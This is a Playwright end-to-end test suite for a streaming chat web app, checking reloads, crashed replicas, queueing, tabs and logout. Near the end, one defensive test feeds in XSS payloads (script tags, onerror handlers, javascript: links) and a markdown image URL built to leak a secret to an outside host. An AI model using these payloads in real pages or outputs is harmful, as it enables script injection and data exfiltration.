"""People talk to the real site in a real browser."""

import re

from playwright.async_api import expect

WORDS = "word0 word1 word2 word3 word4"


async def test_a_newcomer_signs_up_talks_and_sees_the_answer_stream(ada, site):
    await ada.begin("[[hold after=3]]")
    await expect(ada.bubbles).to_have_text(["[[hold after=3]]"])
    await expect(ada.turn()).to_have_attribute("data-status", "in_progress")
    await expect(ada.answer()).to_have_text("word0 word1 word2")
    site.release()
    await ada.sees_end()
    await expect(ada.answer()).to_have_text(WORDS)
    await expect(ada.titles).to_have_text(["[[hold after=3]]"])


async def test_a_reload_in_the_middle_loses_and_doubles_nothing(ada, site):
    await ada.begin("[[hold after=3]]")
    await expect(ada.answer()).to_have_text("word0 word1 word2")
    await ada.page.reload()
    await expect(ada.answer()).to_have_text("word0 word1 word2")
    site.release()
    await ada.sees_end()
    await expect(ada.answer()).to_have_text(WORDS)
    await ada.page.reload()
    await expect(ada.answer()).to_have_text(WORDS)


async def test_a_replica_that_dies_loses_and_doubles_nothing(ada, site):
    await ada.begin("[[hold after=3]]")
    await expect(ada.answer()).to_have_text("word0 word1 word2")
    site.kill("replica-1")
    await expect(ada.page.locator("#whereabouts")).to_have_attribute("data-phase", "waiting")
    site.release()
    site.start_again("replica-1")
    await ada.sees_end()
    await expect(ada.answer()).to_have_text(WORDS)


DELETE = """
WITH said AS (DELETE FROM conversations_message WHERE turn_id = %s)
DELETE FROM conversations_turn WHERE id = %s RETURNING number
"""


async def test_what_is_deleted_while_the_page_is_away_is_gone_when_it_is_back(ada, site):
    await ada.begin("[[stream deltas=1]] one")
    await ada.sees_end()
    await ada.say("[[stream deltas=1]] two")
    await ada.sees_end()
    deleted = (await ada.turn(0).get_attribute("data-id")).removeprefix("resp_")
    site.kill("replica-1")
    await expect(ada.page.locator("#whereabouts")).to_have_attribute("data-phase", "waiting")
    assert site.rows(DELETE, deleted, deleted) == [(0,)]
    site.start_again("replica-1")
    await expect(ada.bubbles).to_have_text(["[[stream deltas=1]] two"])


async def test_a_worker_that_dies_leaves_a_fold_and_another_answers(ada, site):
    await ada.begin("[[hold after=3]]")
    await expect(ada.answer()).to_have_text("word0 word1 word2")
    worker = ada.turn().locator(".worker")
    await expect(worker).to_have_text(re.compile(r"-\d+-"))
    died = await worker.inner_text()
    site.kill(next(name for name, each in site.processes.items() if f"-{each.pid}-" in died))
    await expect(ada.page.get_by_text("Interrupted, and begun again")).to_be_visible()
    site.release()
    await ada.sees_end()
    await expect(ada.answer().locator(".item > .prose")).to_have_text([WORDS])
    await expect(worker).not_to_have_text(died)


async def test_stop_keeps_what_was_said(ada):
    await ada.begin("[[stall after=2]]")
    await expect(ada.answer()).to_have_text("word0 word1")
    await ada.page.get_by_role("button", name="Stop the answer").click()
    await expect(ada.turn().locator(".under")).to_contain_text("Stopped")
    await ada.page.reload()
    await expect(ada.answer()).to_have_text("word0 word1")
    await expect(ada.turn().locator(".under")).to_contain_text("Stopped")


async def test_a_second_message_waits_its_turn_and_is_answered(ada, site):
    await ada.begin("[[hold after=1]]")
    await expect(ada.answer()).to_have_text("word0")
    await ada.say("[[stream deltas=2]]")
    await expect(ada.turn().locator(".fate")).to_contain_text("Queued")
    site.release()
    await ada.sees_end()
    await expect(ada.page.locator(".answer")).to_have_text([WORDS, "word0 word1"])


async def test_a_queued_message_can_be_taken_back(ada, site):
    await ada.begin("[[hold after=1]]")
    await expect(ada.answer()).to_have_text("word0")
    await ada.say("[[stream deltas=2]]")
    await ada.turn().get_by_role("button", name="Cancel").click()
    await ada.sees_end("incomplete")
    site.release()
    await ada.sees_end(index=0)
    await expect(ada.answer(0)).to_have_text(WORDS)


async def test_two_tabs_on_two_replicas_are_in_step(ada, site):
    await ada.begin("[[hold after=3]]")
    await expect(ada.answer()).to_have_text("word0 word1 word2")
    other = await ada.another_tab(f"http://127.0.0.1:{site.ports[1]}")
    await expect(other.answer()).to_have_text("word0 word1 word2")
    await other.say("[[stream deltas=2]] from the other tab")
    await expect(ada.bubbles.nth(1)).to_have_text("[[stream deltas=2]] from the other tab")
    site.release()
    for person in (ada, other):
        await person.sees_end(index=1)
        await expect(person.page.locator(".answer")).to_have_text([WORDS, "word0 word1"])


async def test_the_page_tells_quietly_who_serves_and_who_answered(ada, site):
    await ada.begin("[[stream]]")
    await ada.sees_end()
    await expect(ada.page.locator("#whereabouts")).to_have_text(re.compile(r"^via \S+"))
    turn = (await ada.turn().get_attribute("data-id")).removeprefix("resp_")
    ((worker,),) = site.rows("SELECT worker_name FROM conversations_turn WHERE id = %s", turn)
    await expect(ada.turn().locator(".worker")).to_have_text(worker)
    await ada.page.reload()
    await expect(ada.turn().locator(".worker")).to_have_text(worker)


async def test_a_conversation_is_renamed_and_another_tab_follows(ada):
    await ada.begin("[[stream]] one")
    other = await ada.another_tab(ada.origin)
    await ada.page.get_by_role("button", name="Rename [[stream]] one").click()
    await ada.page.get_by_label("Title").fill("Bridges & towers")
    await ada.page.keyboard.press("Enter")
    for tab in (ada, other):
        await expect(tab.titles).to_have_text(["Bridges & towers"])
        await expect(tab.page.get_by_role("heading", level=1)).to_have_text("Bridges & towers")


async def test_a_conversation_is_deleted_after_a_question(ada):
    await ada.begin("[[stream]] gone")
    address = ada.page.url
    await ada.page.get_by_role("button", name="Delete [[stream]] gone").click()
    await ada.page.get_by_role("button", name="Keep it").click()
    await expect(ada.titles).to_have_count(1)
    await ada.page.get_by_role("button", name="Delete [[stream]] gone").click()
    await ada.page.get_by_role("button", name="Delete", exact=True).click()
    await expect(ada.page.get_by_text("What shall we talk about?")).to_be_visible()
    await expect(ada.titles).to_have_count(0)
    answer = await ada.page.request.get(address)
    assert answer.status == 404
    await ada.page.go_back()
    assert ada.page.url == f"{ada.origin}/"


async def test_a_tool_call_is_a_line_that_opens(ada):
    await ada.page.get_by_text("Demo").click()
    await ada.begin("What is 12 * 34 + 5?")
    await ada.sees_end()
    await ada.page.get_by_text("Used calculate").click()
    await expect(ada.page.locator(".tool pre")).to_have_text([re.compile("12 \\* 34"), "413"])
    await expect(ada.answer()).to_contain_text("is 413")


async def test_a_provider_that_fails_is_told_in_words_with_another_try(ada):
    await ada.begin("[[status code=401]]")
    await ada.sees_end("failed")
    await expect(ada.turn().locator(".under .problem")).to_have_text("The model could not answer.")
    await ada.page.reload()
    await ada.turn().get_by_role("button", name="Try again").click()
    await expect(ada.bubbles).to_have_text(["[[status code=401]]"] * 2)


async def test_log_out_closes_every_tab(ada):
    await ada.begin("[[stream]]")
    await ada.sees_end()  # later the other tab's list would hear of it, and be refused
    other = await ada.another_tab(ada.origin)
    await expect(other.page.locator("#whereabouts")).to_have_attribute("data-phase", "open")
    await ada.page.get_by_role("button", name="Log out").click()
    await expect(ada.page.get_by_role("heading", name="Log in")).to_be_visible()
    await expect(other.page.locator("#notice")).to_have_text("You are logged out. Log in")


ATTACK = (
    "[[echo]] <img src=x onerror=window.hit=1> <script>window.hit=1</script> "
    "[click](javascript:window.hit=1) <a href=javascript:window.hit=1>me</a> "
    "<iframe src=/admin/></iframe> ![x](https://example.org/leak.png?secret)"
)


async def test_what_a_model_writes_can_neither_run_nor_tell(ada, site):
    asked = []
    ada.page.on("request", lambda request: asked.append(request.url))
    await ada.begin(ATTACK)
    await ada.sees_end()
    for link in await ada.answer().locator("a").all():
        href = await link.get_attribute("href")
        assert href is None or href == "https://example.org/leak.png?secret"
    assert await ada.answer().locator("script, iframe, img[onerror], img[src]").count() == 0
    assert await ada.page.evaluate("() => window.hit") is None
    assert not [url for url in asked if not url.startswith(ada.origin)]
